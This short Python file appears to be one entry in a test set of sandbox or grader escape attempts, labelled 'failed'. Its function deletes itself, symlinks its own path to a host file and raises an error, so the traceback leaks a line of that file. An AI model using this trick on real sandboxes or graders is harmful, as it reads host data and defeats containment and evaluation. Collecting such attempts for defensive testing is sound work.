# /// attack
# verdict = ["failed"]
# ///
"""The line of an error is read from my file, which meanwhile leads to a file of the host."""

import os

from tools import TARGET


def answer():
    os.unlink(__file__)
    os.symlink(TARGET["host_file"], __file__)
    raise ValueError("look at me")
